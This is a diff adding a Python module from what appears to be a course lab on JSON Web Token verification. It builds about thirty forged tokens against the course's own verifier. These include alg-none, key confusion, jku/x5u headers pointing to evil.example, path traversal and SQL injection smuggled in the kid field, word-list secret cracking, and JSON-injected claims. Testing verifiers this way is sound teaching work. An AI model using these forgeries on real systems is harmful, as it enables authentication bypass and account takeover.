@@ -1,0 +1,186 @@
+"""The forger's tools: every attack makes real tokens, to be put to a real verifier. Only for the course's own door.
+
+    ATTACKS["alg none"].tokens -> what is shown to the door, one after the other; the attack works if the last one opens
+
+The forger has a token of Ada's, the public keys, and a key pair of their own (an EXAMPLE).
+"""
+
+from __future__ import annotations
+
+import hmac
+import json
+from collections.abc import Mapping
+from dataclasses import dataclass
+from typing import Any
+
+from labs.tokens.attacks.door import GOOD, TYP, WEAK, signed_by
+from labs.tokens.attacks.doors import Web, pem
+from labs.tokens.examples import AUDIENCE, ED25519, NOW, P256, RSA, example_key
+from labs.tokens.jws import base64url, public_jwk, read_key, sign
+
+ADAS = GOOD["RS256"]
+EVIL_PAGE = "https://evil.example/key.json"
+COMMON = ("123456", "password", "qwerty", "letmein", "sunshine", "secret")
+"""The first words of a word list."""
+MINE: dict[str, Any] = {**ED25519, "alg": "Ed25519"}
+"""The forger's own key (an EXAMPLE: RFC 8037's)."""
+
+
+@dataclass(frozen=True)
+class Attack:
+    """Tokens, shown one after the other; `trick` says what the forger hopes for."""
+
+    name: str
+    trick: str
+    tokens: tuple[str, ...]
+    now: float = NOW
+
+
+def part(value: Any) -> str:
+    """JSON, in base64url."""
+    written = value if isinstance(value, bytes) else json.dumps(value, separators=(",", ":")).encode()
+    return base64url.encode(written)
+
+
+def claims_of(token: str) -> dict[str, Any]:
+    """What a token says. It takes no key."""
+    read: dict[str, Any] = json.loads(base64url.decode(token.split(".")[1]))
+    return read
+
+
+def as_admin(**more: Any) -> dict[str, Any]:
+    """Ada's claims, with the role that the forger wants."""
+    return {**claims_of(ADAS), "role": "admin", **more}
+
+
+def bare(alg: str, signature: str = "", **header: Any) -> str:
+    """A token with this text for its signature."""
+    return f"{part({'alg': alg, 'kid': 'winter', 'typ': TYP, **header})}.{part(as_admin())}.{signature}"
+
+
+def with_hmac(secret: bytes, header: Mapping[str, Any]) -> str:
+    """A token signed with a secret that the forger has, or has guessed."""
+    signing_input = f"{part({'alg': 'HS256', 'typ': TYP, **header})}.{part(as_admin())}"
+    return f"{signing_input}.{base64url.encode(hmac.digest(secret, signing_input.encode(), 'sha256'))}"
+
+
+def with_mine(**header: Any) -> str:
+    """A token signed with the forger's own key."""
+    return sign(json.dumps(as_admin()).encode(), read_key(MINE), {"typ": TYP, **header})
+
+
+def guessed(token: str) -> bytes:
+    """The secret of an HS256 token, by trying every word of the list: no door is needed for that."""
+    signing_input, _, signature = token.rpartition(".")
+    for word in COMMON:
+        if base64url.encode(hmac.digest(word.encode(), signing_input.encode(), "sha256")) == signature:
+            return word.encode()
+    return b""
+
+
+def old_token() -> str:
+    """A token that the issuer signed with its weak secret."""
+    return with_hmac(WEAK, {"kid": "legacy"})
+
+
+def short_r() -> str:
+    """A good ES256 token whose r begins with a zero byte, without that byte: 63 bytes for 64."""
+    key = example_key("ES256", "spring")
+    for i in range(5000):
+        token = sign(json.dumps({**claims_of(ADAS), "n": i}).encode(), key, {"typ": TYP})
+        signing_input, _, signature = token.rpartition(".")
+        made = base64url.decode(signature)
+        if made[0] == 0:
+            return f"{signing_input}.{base64url.encode(made[1:])}"
+    raise AssertionError("one signature in 256 has such an r")
+
+
+def spare_bits(token: str) -> str:
+    """The same bytes in another spelling: the last character has bits that count for nothing."""
+    last = base64url.ALPHABET.index(token[-1])
+    return token[:-1] + base64url.ALPHABET[last + 1]
+
+
+def twice(token_header: bytes, payload: bytes) -> str:
+    """Header and payload as they are, signed by the issuer's HS256 key."""
+    signing_input = f"{part(token_header)}.{part(payload)}"
+    signature = example_key("HS256").algorithm.sign(example_key("HS256").signs_with, signing_input.encode())
+    return f"{signing_input}.{base64url.encode(signature)}"
+
+
+def _pasted() -> str:
+    """The issuer pastes a display name into JSON as text; the forger's name is `x","role":"admin`."""
+    written = json.dumps({**claims_of(GOOD["HS256"]), "name": "NAME"}).replace("NAME", 'x","role":"admin')
+    return twice(json.dumps({"alg": "HS256", "kid": "office", "typ": TYP}).encode(), written.encode())
+
+
+def _two_algs() -> str:
+    payload = json.dumps(claims_of(GOOD["HS256"])).encode()
+    return twice(b'{"alg":"none","alg":"HS256","kid":"office","typ":"at+jwt"}', payload)
+
+
+def _stripped() -> str:
+    return f"{ADAS.split('.')[0]}.{part(as_admin())}."
+
+
+def _attacks() -> list[Attack]:
+    rsa = public_jwk({**RSA, "alg": "RS256"})
+    public_pem = pem(read_key(rsa).checks_with)
+    Web.pages[EVIL_PAGE] = public_jwk(MINE)
+    head, _, tail = ADAS.split(".")
+    office = GOOD["HS256"].rpartition(".")
+    return [
+        Attack("alg none", "The header says that the token is not signed.", (bare("none"),)),
+        Attack("alg nOnE", "The same, spelt so that a list of forbidden names misses it.", (bare("nOnE"),)),
+        Attack("signature removed", "The header is Ada’s; the signature is empty.", (_stripped(),)),
+        Attack("payload changed", "Ada’s signature, under other claims.", (f"{head}.{part(as_admin())}.{tail}",)),
+        Attack("RS256 → HS256", "The public key, used as if it were a shared secret.",
+               (with_hmac(public_pem, {"kid": "winter"}),)),
+        Attack("ES256 → HS256", "The same with the other public key.",
+               (with_hmac(pem(read_key(public_jwk({**P256, "alg": "ES256"})).checks_with), {"kid": "spring"}),)),
+        Attack("a stranger’s key", "Signed by the forger, under the name of a trusted key.",
+               (with_mine(kid="winter"),)),
+        Attack("jwk", "The token brings the key that it is to be verified with.", (with_mine(jwk=public_jwk(MINE)),)),
+        Attack("jku", "The token says at which address its key is.", (with_mine(jku=EVIL_PAGE),)),
+        Attack("x5u", "The same, for a certificate.", (with_mine(x5u=EVIL_PAGE),)),
+        Attack("kid as a path", "The key is a file that is known to be empty.",
+               (with_hmac(b"", {"kid": "../../dev/null"}),)),
+        Attack("kid as a query", "The key is whatever the forger’s query selects.",
+               (with_hmac(b"mine", {"kid": "x' UNION SELECT 'mine' --"}),)),
+        Attack("weak secret", "Guessed with a word list, from one token.",
+               (with_hmac(guessed(old_token()), {"kid": "legacy"}),)),
+        Attack("cut-off HMAC", "Only the first byte of a signature: 1 in 256 fits.", (_one_byte(),)),
+        Attack("r = s = 0", "A signature of 64 zero bytes.",
+               (bare("ES256", base64url.encode(bytes(64)), kid="spring"),)),
+        Attack("63 bytes for 64", "A second spelling of a good signature.", (short_r(),)),
+        Attack("spare bits", "A second spelling of a good token.", (spare_bits(f"{office[0]}.{office[2]}"),)),
+        Attack("alg twice", "One reader takes the first, another the last.", (_two_algs(),)),
+        Attack("role twice", "A name pasted into the JSON brings a second role.", (_pasted(),)),
+        Attack("unknown crit", "An extension that must be understood, and is not.",
+               (signed_by("office", {"crit": ["one-use"], "one-use": True}),)),
+        Attack("b64 false", "The payload is said not to be base64url.",
+               (twice(b'{"alg":"HS256","kid":"office","typ":"at+jwt","b64":false,"crit":["b64"]}',
+                      json.dumps(claims_of(ADAS)).encode()),)),
+        Attack("another typ", "An ID token, signed by the same issuer, as an access token.",
+               (signed_by("winter", {"typ": "JWT"}),)),
+        Attack("another audience", "Ada’s token for the bank.", (signed_by("winter", aud="bank.example"),)),
+        Attack("part of audience", "Meant for a name that contains ours.",
+               (signed_by("winter", aud=f"{AUDIENCE}.evil.example"),)),
+        Attack("another issuer", "Signed with a trusted key, in somebody else’s name.",
+               (signed_by("winter", iss="evil.example"),)),
+        Attack("part of issuer", "An issuer whose name is a part of ours.", (signed_by("winter", iss="login"),)),
+        Attack("expired", "Ada’s token, a second after its end.", (ADAS,), NOW + 301),
+        Attack("no exp", "A token that never ends.", (signed_by("winter", exp=None),)),
+        Attack("not yet valid", "A token for tomorrow.", (signed_by("winter", nbf=NOW + 1, exp=NOW + 600),)),
+        Attack("replay", "Ada’s token, a second time.", (ADAS, ADAS)),
+    ]  # fmt: skip
+
+
+def _one_byte() -> str:
+    """Try one-byte signatures until the right one must have been among them; here it is worked out with the key."""
+    signing_input = f"{part({'alg': 'HS256', 'kid': 'office', 'typ': TYP})}.{part(as_admin())}"
+    whole = example_key("HS256").algorithm.sign(example_key("HS256").signs_with, signing_input.encode())
+    return f"{signing_input}.{base64url.encode(whole[:1])}"
+
+
+ATTACKS = {attack.name: attack for attack in _attacks()}
